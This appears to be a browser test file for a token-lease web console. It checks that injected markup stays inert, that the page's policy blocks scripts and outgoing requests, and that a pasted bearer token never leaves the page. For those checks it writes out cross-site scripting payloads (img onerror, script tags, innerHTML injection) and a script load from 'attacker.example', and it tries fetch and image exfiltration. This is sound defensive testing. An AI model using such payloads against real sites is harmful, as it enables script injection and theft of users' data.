/** Texts of callers and operators run nothing in the page. A pasted token does not leave it. */
import { createHash } from "node:crypto";
import { expect, onTestFinished, test } from "vitest";
import { plantedToken } from "../../support/broker-replies.ts";
import { watchFor } from "../../support/canary.ts";
import { neverChecked } from "../../support/cli/account-checks.ts";
import { FakeBroker, leaseOf } from "../../support/cli/fake-broker.ts";
import { FakeServer } from "../../support/fake-server.ts";
import { inBrowser } from "./browser.ts";
import { desktop, openConsole, paste, rowOf, scopeCard, tokenBox } from "./console-visit.ts";

const { visit } = inBrowser();

test("markup in a freeze reason or a caller's name is shown as text, and runs nothing", async () => {
  const markup = `<img src=x onerror="alert(1)"><script>alert(2)</script>`;
  const broker = await FakeBroker.start();
  broker.frozen = { by: markup, at: new Date().toISOString(), reason: markup };
  broker.leases = [leaseOf("a", { caller: markup, session: markup, client_id: markup })];
  const findings = [{ code: markup, detail: markup, accepted: false }];
  broker.accounts = { sales: { ...neverChecked, checked_at: new Date().toISOString(), findings } };
  const { page, link, asked, errors } = await openConsole(broker.cli, [], visit);

  const card = scopeCard(page, "sales");
  await card.getByText("1 finding about its account").click();
  await card.locator("dd", { hasText: markup }).first().waitFor();
  expect(await card.locator(".why").textContent()).toContain(`${markup}by ${markup}`);
  await rowOf(page, "sales").getByRole("button").click();
  await page.getByRole("dialog").getByText(markup).first().waitFor();

  expect(await page.locator("img, script:not([src])").count()).toBe(0);
  expect(errors).toEqual([]);
  expect(asked.filter((url) => !url.startsWith(new URL(link).origin))).toEqual([]);
});

test.each([
  [
    "an attribute",
    `document.body.setAttribute("onclick", "document.title = 'taken'"); document.body.click()`,
  ],
  ["markup", `document.body.innerHTML = "<img src=x onerror=\\"document.title = 'taken'\\">"`],
  ["a script of another site", `document.createElement("script").src = "https://attacker.example/x.js"`],
])("%s past the page's escaping would not run: the policy forbids it", async (_, attack) => {
  const broker = await FakeBroker.start();
  const { page } = await openConsole(broker.cli, [], visit);
  await expect(page.evaluate(attack)).rejects.toThrow(/Trusted/);
  expect(await page.title()).toBe("looker-token console");
});

test("a running script could send nothing anywhere: the policy forbids it", async () => {
  const broker = await FakeBroker.start();
  const elsewhere = await FakeServer.start(() => ({
    status: 200,
    headers: { "access-control-allow-origin": "*" },
  }));
  onTestFinished(() => elsewhere.stop());
  const { page } = await openConsole(broker.cli, [], visit);
  await expect(page.evaluate(`fetch("${elsewhere.url}/")`)).rejects.toThrow(/Failed to fetch/);
  const image = `new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("refused");
    image.src = "${elsewhere.url}/";
  })`;
  expect(await page.evaluate(image)).toBe("refused");
  expect(elsewhere.asked).toEqual([]);
});

test("a pasted token never leaves the page, and is nowhere in it afterwards", async () => {
  const broker = await FakeBroker.start();
  const token = plantedToken("lease-1");
  watchFor("the pasted token", token);
  const hash = createHash("sha256").update(token).digest("hex");
  broker.leases = [leaseOf("a")];
  broker.tokens.set(hash, broker.leases);
  const { page } = await openConsole(broker.cli, [], visit);
  const bodies: string[] = [];
  page.on("request", (request) => void bodies.push(`${request.url()} ${request.postData() ?? ""}`));

  await paste(page, `Authorization: Bearer ${token}\n`);
  await page.getByRole("article").filter({ hasText: "report-service in scope sales: live" }).waitFor();
  expect(await tokenBox(page).inputValue()).toBe("");
  expect(bodies.some((body) => body.includes(hash))).toBe(true);
  expect(bodies.filter((body) => body.includes(token))).toEqual([]);
  expect(broker.asked("GET").filter((path) => path.includes(token))).toEqual([]);
  expect(await page.content()).not.toContain(token);
  await page.getByRole("button", { name: "End this token" }).first().click();
  // Before its end: the page asks anew as soon as it has the answer.
  broker.tokens.delete(hash);
  await page.getByRole("button", { name: "End 1 lease" }).click();
  await page.getByText("Looker confirmed its end").waitFor();
  await page.getByText("No lease of your scopes has this token.").waitFor();
  expect(bodies.filter((body) => body.includes(token))).toEqual([]);
  expect(await page.evaluate("JSON.stringify([localStorage, sessionStorage, history.state])")).toBe(
    "[{},{},null]",
  );
});

test("for a token without a lease the page shows the question for the records", async () => {
  const broker = await FakeBroker.start();
  const { page } = await openConsole(broker.cli, [], visit);
  await tokenBox(page).fill("nobody-has-this-token");
  await page.keyboard.press("Enter");
  const hash = createHash("sha256").update("nobody-has-this-token").digest("hex");
  await page.getByText(`looker-token ask who-got-this-token --token-sha256 ${hash}`).waitFor();
  expect(await tokenBox(page).inputValue()).toBe("");
});

test("a scope whose list has not come is called neither served nor frozen, and its leases are not counted as none", async () => {
  const broker = await FakeBroker.start();
  broker.leases = [leaseOf("a")];
  broker.instead = ({ path }) => (path.includes("/finance/leases") ? "silence" : undefined);
  const { page } = await openConsole(broker.cli, [], visit, desktop, "1 lease so far");
  const [known, unknown] = [scopeCard(page, "sales"), scopeCard(page, "finance")];
  await known.getByText("served", { exact: true }).waitFor();
  expect(await unknown.textContent()).toContain("Looking …");
  expect(await unknown.textContent()).not.toMatch(/served|frozen|No leases|not checked/);
  await page.getByLabel("Filter", { exact: true }).fill("nobody");
  await page.getByText("0 of 1 lease so far").waitFor();
  await page.getByText("None so far.").waitFor();
});

test("a broker's failure is told, and the last answer stays with its time", async () => {
  const broker = await FakeBroker.start();
  broker.leases = [leaseOf("a")];
  const { page } = await openConsole(broker.cli, [], visit);
  broker.instead = () => ({
    status: 403,
    headers: { "x-amzn-errortype": "ExpiredTokenException" },
    body: {},
  });
  await page.getByRole("button", { name: "Look again" }).click();
  await page.getByRole("alert").getByText("The page shows the last answer.").waitFor();
  expect(await rowOf(page, "sales", "report-service").first().isVisible()).toBe(true);
  broker.instead = () => undefined;
  await page.getByRole("button", { name: "Look again" }).click();
  await page.getByRole("alert").getByText("The page shows the last answer.").waitFor({ state: "detached" });
});
